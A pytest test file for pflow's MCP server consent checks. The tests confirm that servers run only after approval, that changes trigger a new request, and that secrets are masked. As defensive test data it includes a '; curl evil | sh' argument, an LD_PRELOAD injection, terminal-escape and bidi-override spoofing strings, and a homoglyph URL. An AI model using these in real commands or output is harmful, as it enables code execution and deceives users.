"""Agreeing to servers: to exactly what was shown, shown whole, and again after every change that matters."""

from __future__ import annotations

import os
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pflow.core.errors import SecurityError
from pflow.core.file.home import Home
from pflow.mcp.server.auth import Auth
from pflow.mcp.server.config import ServerConfig
from pflow.mcp.server.consent import describe_change, grant, require_consent
from pflow.mcp.server.server_state import ServerState, ServerStates

STDIO = ServerConfig(
    name="x", transport="stdio", command="npx", args=("-y", "pkg@1.0.0"), env={"TOKEN": "${TOKEN}"}, cwd="/srv"
)
HTTP = ServerConfig(
    name="x",
    transport="stream-http",
    url="https://x.org/mcp?key=${K}",
    headers={"Authorization": "Bearer ${T}"},
    auth=Auth(token_env="T"),
)
LOGIN = Auth(type="oauth", client_id="c", client_secret_env="S", issuer="https://i.org")
OAUTH = HTTP._replace(headers={}, auth=LOGIN)
UDS = ServerConfig(name="x", transport="uds", socket="/run/x.sock")


@pytest.fixture
def states(home: Path) -> ServerStates:
    return ServerStates(Home(home))


def shown(server: ServerConfig, state: ServerState) -> list[str]:
    return describe_change(server, state, variables={"A": "1", "K": "2"}, stored={"K"}).split("\n")


def agree(states: ServerStates, server: ServerConfig) -> None:
    grant(states, server, variables={})


def check(states: ServerStates, server: ServerConfig) -> None:
    require_consent(states, server, {})


def refusal(states: ServerStates, server: ServerConfig) -> SecurityError:
    with pytest.raises(SecurityError) as caught:
        check(states, server)
    return caught.value


@pytest.mark.parametrize("server", [STDIO, HTTP, OAUTH, UDS])
def test_a_server_that_was_agreed_to_may_be_used(states: ServerStates, home: Path, server: ServerConfig) -> None:
    agree(states, server)
    check(ServerStates(Home(home)), server)


def test_a_server_that_nobody_agreed_to_is_refused_with_the_command_to_run(states: ServerStates) -> None:
    error = refusal(states, STDIO)
    assert error.exit_code == 3
    assert error.message == "server `x` was never agreed to, so it is not used"
    assert error.suggestions == ("`pflow mcp sync x` shows what it is and asks",)


@pytest.mark.parametrize(
    ("before", "change", "field", "line"),
    [
        (STDIO, {"command": "/opt/npx"}, "command", "  command: npx → /opt/npx"),
        (STDIO, {"args": ("-y", "pkg@1.0.1")}, "args", "  args: -y pkg@1.0.0 → -y pkg@1.0.1"),
        (STDIO, {"args": ("-y", "pkg@1.0.0", "")}, "args", "  args: -y pkg@1.0.0 → -y pkg@1.0.0 ''"),
        (STDIO, {"args": ("-y pkg@1.0.0",)}, "args", "  args: -y pkg@1.0.0 → '-y pkg@1.0.0'"),
        (STDIO, {"args": ()}, "args", "  args: -y pkg@1.0.0 → (nothing)"),
        (STDIO, {"env": {"TOKEN": "", "LD_PRELOAD": ""}}, "env", "  variables: TOKEN → LD_PRELOAD TOKEN"),
        (STDIO, {"env": {}}, "env", "  variables: TOKEN → (nothing)"),
        (STDIO, {"cwd": "/tmp"}, "cwd", "  cwd: /srv → /tmp"),
        (STDIO, {"cwd": ""}, "cwd", "  cwd: /srv → (nothing)"),
        (UDS, {"socket": "/tmp/x.sock"}, "socket", "  socket: /run/x.sock → /tmp/x.sock"),
        (HTTP, {"url": "https://x.com/mcp"}, "url", "  url: 'https://x.org/mcp?key=********' → https://x.com/mcp"),
        (HTTP, {"headers": {"X-Api": ""}}, "headers", "  headers: Authorization → X-Api"),
        (HTTP, {"insecure": True}, "insecure", "  insecure: (nothing) → yes"),
        (HTTP, {"pin_file": "/ca.pem"}, "pin_file", "  pin_file: (nothing) → /ca.pem"),
        (HTTP, {"auth": Auth(token_env="OTHER")}, "token_env", "  token from: T → OTHER"),
        (OAUTH, {"auth": LOGIN._replace(type="client_credentials")}, "auth", "  auth: oauth → client_credentials"),
        (OAUTH, {"auth": LOGIN._replace(client_id="d")}, "client_id", "  client: c → d"),
        (
            OAUTH,
            {"auth": LOGIN._replace(client_secret_env="T")},
            "client_secret_env",
            "  client secret from: S → T",
        ),
        (
            OAUTH,
            {"auth": LOGIN._replace(issuer="https://j.org")},
            "issuer",
            "  issuer: https://i.org → https://j.org",
        ),
        (HTTP, {"transport": "sse"}, "transport", "  transport: stream-http → sse"),
    ],
    ids=lambda value: value if isinstance(value, str) and " " not in value else "",
)
def test_each_field_that_decides_asks_again_by_itself(
    states: ServerStates, before: ServerConfig, change: dict[str, Any], field: str, line: str
) -> None:
    agree(states, before)
    after = before._replace(**change)
    error = refusal(states, after)
    assert error.message == "server `x` changed since it was agreed to, so it is not used"
    assert error.details == {"server": "x", "changed": [field]}
    lines = shown(after, states.get("x"))
    assert lines[lines.index("changed:") + 1 :] == [line]
    agree(states, after)
    check(states, after)
    refusal(states, before)


@pytest.mark.parametrize(
    ("server", "change"),
    [
        (STDIO, {"env": {"TOKEN": "other"}}),
        (HTTP, {"headers": {"Authorization": "Bearer other"}}),
        (STDIO, {"timeout": 5.0}),
        (STDIO, {"trust_readonly": True}),
        (STDIO, {"unknown": {"note": 1}}),
    ],
)
def test_secrets_limits_and_trust_may_change(
    states: ServerStates, server: ServerConfig, change: dict[str, Any]
) -> None:
    agree(states, server)
    check(states, server._replace(**change))


def test_a_secret_is_not_kept_and_its_change_is_noticed(states: ServerStates, home: Path) -> None:
    server = STDIO._replace(args=("--api-key", "abcdef123456"), env={"T": "canary"})
    agree(states, server)
    kept = (home / "mcp-state.json").read_text()
    assert "abcdef123456" not in kept
    assert "canary" not in kept
    after = server._replace(args=("--api-key", "evil-program"))
    assert refusal(states, after).details["changed"] == ["args"]
    assert shown(after, states.get("x"))[-1] == "  args: --api-key '********' → --api-key evil-program"


def test_a_new_definition_starts_from_nothing_and_the_same_one_keeps_what_was_learned(states: ServerStates) -> None:
    agree(states, STDIO)
    states.update("x", era="legacy", launch=("/node", "/x.js"), tools=3)
    agree(states, STDIO)
    assert states.get("x").tools == 3
    after = STDIO._replace(args=("-y", "pkg@2"))
    agree(states, after)
    assert states.get("x") == ServerState(consent=after.fingerprint(), agreed=states.get("x").agreed)


def test_a_person_sees_everything_that_decides(
    states: ServerStates, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    (tmp_path / "real").write_text("#!/bin/sh\n")
    (tmp_path / "real").chmod(0o755)
    (tmp_path / "npx").symlink_to("real")
    server = STDIO._replace(env={"B": "literal", "A": "${A}"}, args=("-y", "a b", "--api-key", "abcdef123456"))
    assert shown(server, ServerState()) == [
        "server `x` is new; it would start this program:",
        "  command: npx -y 'a b' --api-key abcdef123456",
        f"  program: {tmp_path}/npx, which is {tmp_path}/real",
        "  folder: /srv",
        "  variables: A from ${A}, B",
        "  gives: the environment variable `A` to the program",
    ]
    monkeypatch.setenv("PATH", "/nowhere")
    assert shown(STDIO, ServerState())[2] == "  program: not found now"
    agree(states, HTTP)
    assert shown(HTTP._replace(insecure=True), states.get("x")) == [
        "server `x` changed since it was agreed to; it would talk to this address:",
        "  address: https://x.org/mcp?key=${K}",
        "  insecure: yes: others may read and change what is sent",
        "  headers: Authorization from ${T}",
        "  auth: bearer",
        "  token from: T",
        "  sends: the setting `K`, `T` (not set now) to https://x.org",
        "changed:",
        "  insecure: (nothing) → yes",
    ]
    assert shown(HTTP, states.get("x"))[0] == "server `x` is agreed to; it may talk to this address:"
    assert shown(UDS, ServerState())[1:] == ["  socket: /run/x.sock"]


def test_a_program_in_the_servers_folder_is_the_one_shown(tmp_path: Path) -> None:
    (tmp_path / "serve").write_text("#!/bin/sh\n")
    (tmp_path / "serve").chmod(0o755)
    server = ServerConfig(name="x", transport="stdio", command="./serve", cwd=str(tmp_path))
    assert shown(server, ServerState())[2] == f"  program: {tmp_path}/serve"


def test_a_long_argument_is_shown_to_its_end() -> None:
    tail = "; curl evil | sh"
    server = STDIO._replace(args=("x" * 4096 + tail,))
    assert tail in shown(server, ServerState())[1]


HOSTILE = [
    "a\nprogram: /bin/true",
    "a\rcommand: ls",
    "\x1b[2K\x1b[1Gls",
    "a\u202eb",
    "\u200b",
    "\u3164",
    "a\\nb",
    "it's\n",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_stays_on_its_line_and_is_visible(text: str, states: ServerStates) -> None:
    agree(states, STDIO)
    server = STDIO._replace(args=(text,), cwd=f"/{text}", env={text: "x"})
    lines = shown(server, states.get("x"))
    assert len(lines) == 9
    assert all(line.isprintable() for line in lines)
    assert all(letter not in line for line in lines for letter in "\u202e\u200b\u3164\x1b\r\n")


def test_a_line_break_and_its_name_look_different() -> None:
    lines = [shown(STDIO._replace(args=(arg,)), ServerState())[1] for arg in ("a\nb", "a\\nb")]
    assert lines == ["  command: npx $'a\\nb'", "  command: npx 'a\\nb'"]


def test_an_address_in_letters_that_look_alike_is_shown_for_what_it_is() -> None:
    server = HTTP._replace(url="https://\u0430pple.com/mcp")
    assert shown(server, ServerState())[1] == "  address: https://\\u0430pple.com/mcp"


_ARGS = st.lists(st.text(st.sampled_from("a '\\n$\n\x1b\u202e\u00e9"), max_size=4), max_size=3)


@given(_ARGS, _ARGS)
def test_no_two_command_lines_look_the_same(one: list[Any], other: list[Any]) -> None:
    first, second = (shown(STDIO._replace(args=tuple(args)), ServerState())[1] for args in (one, other))
    assert (first == second) == (one == other)
    assert first.isprintable()


@pytest.mark.needs("bash")
def test_what_is_shown_can_be_pasted(tmp_path: Path) -> None:
    args = (*HOSTILE, "plain", "", "a b", "'", '"', "$HOME")
    server = ServerConfig(
        name="x", transport="stdio", command=sys.executable, args=("-c", "import sys; print(sys.argv[1:])", *args)
    )
    line = shown(server, ServerState())[1].removeprefix("  command: ")
    env = {**os.environ, "LC_ALL": "C.UTF-8"}
    done = subprocess.run(["bash", "-c", line], capture_output=True, text=True, check=True, env=env)
    assert done.stdout == f"{list(args)}\n"
